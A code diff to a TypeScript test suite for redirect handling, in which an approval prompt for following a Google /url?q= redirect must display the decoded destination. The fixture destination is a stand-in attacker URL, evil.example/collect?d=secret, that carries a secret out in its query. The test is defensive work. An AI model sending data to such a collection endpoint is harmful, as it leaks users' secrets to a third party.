@@ -406,7 +406,8 @@ describe('point 5: redirects of reads', () => {
     expect(asked).toHaveLength(1);
     expect(asked[0]).toMatchObject({ title: 'Follow the redirect from www.google.com?', kind: 'approval', options: null, payload: null });
     expect(asked[0]?.description).toContain('**Where it points is not known:**');
-    expect(codeSpans(asked[0]?.description ?? '')).toContain(read.url);
+    // The request as it would be sent again, its query decoded: where Google's /url?q= says it leads is there to read.
+    expect(codeSpans(asked[0]?.description ?? '')).toEqual(expect.arrayContaining([read.url, 'https://evil.example/collect?d=secret']));
     expect(fetch.mock.calls.map(([, init]) => init?.redirect)).toEqual(['manual', 'follow']);
     expect(result).toBe('HTTP 200\ncontent-type: text/plain;charset=UTF-8\nredirected to: https://evil.example/collect?d=secret\n\ngot it');
   });
